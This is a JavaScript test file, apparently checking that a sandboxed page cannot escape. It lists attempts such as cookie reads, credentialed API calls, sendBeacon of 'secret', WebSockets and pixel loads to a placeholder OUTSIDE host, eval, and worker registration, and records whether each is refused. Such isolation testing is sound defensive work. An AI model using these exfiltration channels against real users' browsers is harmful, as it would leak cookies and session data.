// Each attempt says in one word what came of it. None of them may reach anything.
const attempts = {
  origin: () => window.origin,
  cookie: () => document.cookie,
  setCookie: () => (document.cookie = 'a=b'),
  localStorage: () => localStorage.setItem('a', 'b'),
  sessionStorage: () => sessionStorage.setItem('a', 'b'),
  indexedDB: () => indexedDB.open('a'),
  caches: () => caches.open('a'),
  fetchDesk: () => fetch('/desk/v1/status', { credentials: 'include' }),
  fetchOutside: () => fetch('OUTSIDE/fetch', { mode: 'no-cors' }),
  postDecision: () =>
    fetch('/desk/v1/decisions', { method: 'POST', credentials: 'include', body: '{}' }),
  request: () => {
    const request = new XMLHttpRequest()
    request.open('GET', '/desk/v1/status', false)
    request.send()
  },
  beacon: () => {
    if (!navigator.sendBeacon('OUTSIDE/beacon', 'secret')) throw new Error('refused')
  },
  socket: () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket('OUTSIDE/socket'.replace(/^http/, 'ws'))
      socket.onopen = resolve
      socket.onerror = () => reject(new Error('refused'))
    }),
  events: () =>
    new Promise((resolve, reject) => {
      const events = new EventSource('OUTSIDE/events')
      events.onopen = resolve
      events.onerror = () => reject(new Error('refused'))
    }),
  serviceWorker: () => navigator.serviceWorker.register('attack.js'),
  worker: () => new Worker('attack.js'),
  module: () => import('OUTSIDE/module.js'),
  code: () => eval('1 + 1'),
  form: () => document.getElementById('form').submit(),
  open: () => {
    if (!window.open('/desk/people/me')) throw new Error('refused')
  },
  opener: () => window.opener.location.href,
  frame: () => document.querySelector('iframe').contentDocument.body.innerText,
  pixel: () =>
    new Promise((resolve, reject) => {
      const image = new Image()
      image.onload = resolve
      image.onerror = () => reject(new Error('refused'))
      image.src = 'OUTSIDE/pixel.png'
    }),
}

window.results = {}
for (const [name, attempt] of Object.entries(attempts)) {
  Promise.resolve()
    .then(attempt)
    .then(
      value => (window.results[name] = `done: ${value}`),
      problem => (window.results[name] = `refused: ${problem.name}`),
    )
}
window.attempted = Object.keys(attempts).length
